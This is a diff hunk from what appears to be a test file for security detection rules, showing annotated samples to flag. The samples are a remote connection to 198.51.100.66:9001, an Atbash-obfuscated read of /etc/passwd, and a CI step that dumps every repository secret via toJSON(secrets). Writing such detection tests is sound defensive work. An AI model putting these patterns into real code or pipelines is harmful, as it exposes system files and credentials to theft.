@@ -349,3 +349,8 @@ _attach(_connect("198.51.100.66", 9001))
 _atbash = str.maketrans("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba")
 # ruleid: secret-exfiltration, http-client
 urllib.request.urlopen("file:///" + "vgx/kzhhdw".translate(_atbash))
+# every repository secret put into a workflow step
+# ruleid: ci-secrets-dump
+STEP_ENV = {"S": "${{ toJSON(secrets) }}"}
+# ok: ci-secrets-dump
+TOKEN_ENV = {"GH_TOKEN": "${{ secrets.GITHUB_TOKEN }}"}
